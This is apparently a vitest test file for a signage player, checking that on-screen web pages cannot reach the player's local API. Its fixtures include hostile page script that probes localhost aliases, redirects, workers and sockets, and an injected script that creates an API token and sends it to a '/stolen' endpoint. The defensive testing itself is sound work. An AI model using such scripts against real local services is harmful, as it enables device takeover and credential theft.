// Isolation of the local API: no page on the screen reaches it by any kind of request.

import { readFileSync } from "node:fs";
import { hostname } from "node:os";
import { describe, expect, it } from "vitest";
import { colouredPage, png, type Colour } from "../support/media/media.ts";
import {
  sharedScreen,
  problemOf,
  startAlone,
} from "../support/app/shared-screen.ts";
import { shows } from "../support/screen/screen.ts";
import type { RunningApp } from "../support/app/start-app.ts";
import { serveWeb, type WebServer } from "../support/http/web-server.ts";

const green: Colour = [30, 160, 60];
const blue: Colour = [40, 60, 200];

const one = sharedScreen({ start: startAlone });

/** The number of requests that the interface has answered, without those for its metrics. */
async function answered({ api }: RunningApp): Promise<number> {
  const figures = await (await fetch(`${api}/api/v2/metrics`)).text();
  return figures
    .split("\n")
    .filter((line) => line.startsWith("vitrine_requests_total{"))
    .filter((line) => !line.includes("metrics"))
    .reduce((sum, line) => sum + Number(line.split(" ").at(-1)), 0);
}

async function at(app: RunningApp, path: string): Promise<unknown> {
  return (await fetch(`${app.api}/api/v2${path}`)).json();
}

/** A host name that resolves to this machine and is not its own; most machines list their own name in that file. */
function otherNameHere(): string | null {
  const names = readFileSync("/etc/hosts", "utf8")
    .split("\n")
    .map((line) => line.replace(/#.*/, "").trim().split(/\s+/))
    .filter(([address]) => address?.startsWith("127."))
    .flatMap(([, ...listed]) => listed);
  return (
    names.find(
      (name) => name !== hostname() && !/^localhost(\.|$)/.test(name),
    ) ?? null
  );
}

/** Returns what a page reported under this path. */
async function reportTo(web: WebServer, path: string): Promise<string> {
  const sent = () =>
    web.requests.find(({ url }) => url.startsWith(`${path}?`))?.url;
  await expect.poll(sent).toBeDefined();
  return decodeURIComponent(String(sent()).slice(path.length + 1));
}

/** Kinds of request whose outcome a page cannot see. */
const waysWithoutAnswer = [
  "beacon",
  "iframe",
  "video",
  "embed",
  "object",
  "form",
];

/** Tries each kind of request a page can send at each address, then reports the outcomes. */
const tryEverything = (targets: readonly string[], redirect: string) => `
  const answerOf = async (ask) => {
    try { const answer = await ask(); return "reached " + (answer?.type ?? answer); } catch { return "kept away"; }
  };
  const element = (name, address) => new Promise((done, fail) => {
    const made = document.createElement(name);
    made.onload = () => done(name); made.onerror = fail;
    made.rel = "stylesheet"; made[name === "link" ? "href" : "src"] = address;
    document.body.append(made);
  });
  const inWorker = (address) => new Promise((done, fail) => {
    const code = 'fetch("' + address + '", { mode: "no-cors" }).then(() => postMessage("in"), () => postMessage(""))';
    const worker = new Worker(URL.createObjectURL(new Blob([code])));
    worker.onerror = fail;
    worker.onmessage = ({ data }) => data === "" ? fail() : done("worker");
  });
  const inServiceWorker = (address) => new Promise((done, fail) => {
    navigator.serviceWorker.onmessage = ({ data }) => data === "" ? fail() : done("service worker");
    navigator.serviceWorker.register("/worker.js", { scope: "/" })
      .then(() => navigator.serviceWorker.ready)
      .then(({ active }) => active.postMessage(address))
      .catch(fail);
  });
  const socket = (address) => new Promise((done, fail) => {
    const made = new WebSocket(address.replace(/^http/, "ws"));
    made.onopen = () => done("socket"); made.onerror = fail;
  });
  const tryWithoutAnswer = (addressOf) => {
    navigator.sendBeacon(addressOf("beacon"), "{}");
    for (const name of ${JSON.stringify(waysWithoutAnswer)}.slice(1, -1)) {
      const made = document.createElement(name);
      made.src = made.data = addressOf(name);
      document.body.append(made);
    }
    const form = document.createElement("form");
    form.method = "post"; form.action = addressOf("form"); form.target = "held";
    document.body.append(form);
    form.submit();
  };
  (async () => {
    const found = {};
    for (const address of ${JSON.stringify([...targets, redirect])}) {
      const next = address + (address.includes("?") ? "" : "/api/v2/assets/control/next");
      const all = await Promise.all([
        answerOf(() => fetch(next, { mode: "no-cors" })),
        answerOf(() => fetch(next, { mode: "no-cors", keepalive: true, method: "POST", body: "{}" })),
        answerOf(() => inWorker(next)),
        answerOf(() => element("script", next)),
        answerOf(() => element("link", next)),
        answerOf(() => element("img", next)),
        answerOf(() => socket(next)),
        answerOf(() => inServiceWorker(next)),
      ]);
      tryWithoutAnswer(() => next);
      found[address] = all;
    }
    // Once the page's own server has received each of these requests, the player's would have received its own, too.
    tryWithoutAnswer((name) => "/tried/" + name);
    while (!(await fetch("/is-all-tried")).ok);
    await fetch("${"/report?"}" + encodeURIComponent(JSON.stringify(found)));
    location = "/done";
  })();`;

const serviceWorker = `
  onmessage = ({ data, source }) =>
    fetch(data, { mode: "no-cors" }).then(() => source.postMessage("in"), () => source.postMessage(""));`;

describe("a web page on the screen", () => {
  it("[V2-451] cannot reach the player's interface by any address, name, redirect, frame, worker or socket", async () => {
    const { app, screenWatch } = one;
    const { port } = new URL(app.api);
    const other = otherNameHere();
    const web = await serveWeb({
      "/page": `${colouredPage(blue)}<iframe name="held"></iframe><script>window.onload = () => { ${tryEverything(
        [
          ...["127.0.0.1", "localhost", "0.0.0.0", "any.localhost"],
          ...["[::1]", "[::ffff:127.0.0.1]", "127.1.2.3", hostname()],
          ...(other === null ? [] : [other]),
        ].map((host) => `http://${host}:${port}`),
        "/aside?",
      )} }</script>`,
      "/worker.js": (response) =>
        response
          .setHeader("Content-Type", "text/javascript")
          .end(serviceWorker),
      "/aside": { to: `${app.api}/api/v2/assets/control/next` },
      "/is-all-tried": (response) => {
        const isTried = (name: string): boolean =>
          web.requests.some(({ url }) => url === `/tried/${name}`);
        response.writeHead(waysWithoutAnswer.every(isTried) ? 204 : 404).end();
      },
      "/report": 204,
      "/done": colouredPage(green),
    });
    await app.add({ name: "hostile", uri: `${web.address}/page` });
    const before = await answered(app);
    const found = JSON.parse(await reportTo(web, "/report")) as Record<
      string,
      readonly string[]
    >;
    await screenWatch.until(shows(green), "the page when it is done");
    expect(
      Object.entries(found).filter(([, answers]) =>
        answers.some((answer) => answer !== "kept away"),
      ),
    ).toEqual([]);
    expect(await answered(app)).toBe(before);
  });

  it("[V2-451] that belongs to the player itself is not loaded, so its script creates no token and downloads no backup", async () => {
    const { app, screenWatch } = one;
    const { port } = new URL(app.api);
    const web = await serveWeb({
      "/aside": { to: `${app.api}/api/docs` },
      "/stolen": 204,
    });
    await app.addFile(png(green, 1280, 720), {
      ...{ name: "green", mimetype: "image", duration: 1 },
    });
    const js_injection = `fetch("/api/v2/tokens", { method: "POST", headers: { "Content-Type": "application/json" }, body: '{"name":"stolen"}' })
      .then((answer) => answer.text())
      .then((text) => new Image().src = "${web.address}/stolen?" + encodeURIComponent(text));
      fetch("/api/v2/backup", { method: "POST" });`;
    const hostile = await Promise.all(
      [
        `${app.api}/api/docs`,
        `http://localhost:${port}/api/docs`,
        `http://${hostname()}:${port}/api/docs`,
        `${web.address}/aside`,
      ].map((uri, index) =>
        app.add({
          ...{ name: `hostile ${index}`, uri, js_injection, duration: 1 },
          skip_asset_check: true,
        }),
      ),
    );
    await screenWatch.until(shows(green), "the image");
    for (const { asset_id: id } of hostile)
      await expect.poll(() => problemOf(app, id)).not.toBe("");
    expect(await at(app, "/tokens")).toEqual([]);
    expect(await at(app, "/backups")).toEqual([]);
    expect(web.requests.filter(({ url }) => url.startsWith("/stolen"))).toEqual(
      [],
    );
  });

  it("[V2-450][V2-451] whose server redirects to a control operation of the player does not step playback", async () => {
    const { app, screenWatch } = one;
    const web = await serveWeb({
      "/aside": { to: `${app.api}/api/v2/assets/control/next` },
    });
    await app.addFile(png(green, 1280, 720), {
      ...{ name: "green", mimetype: "image", duration: 2 },
    });
    await screenWatch.until(shows(green), "the image");
    const before = await answered(app);
    const page = await app.add({
      ...{ name: "aside", uri: `${web.address}/aside`, duration: 2 },
      skip_asset_check: true,
    });
    await expect
      .poll(() => web.requests.some(({ url }) => url === "/aside"))
      .toBe(true);
    // Only the request that creates it.
    expect(await answered(app)).toBe(before + 1);
    await expect.poll(() => problemOf(app, page.asset_id)).not.toBe("");
  });
});
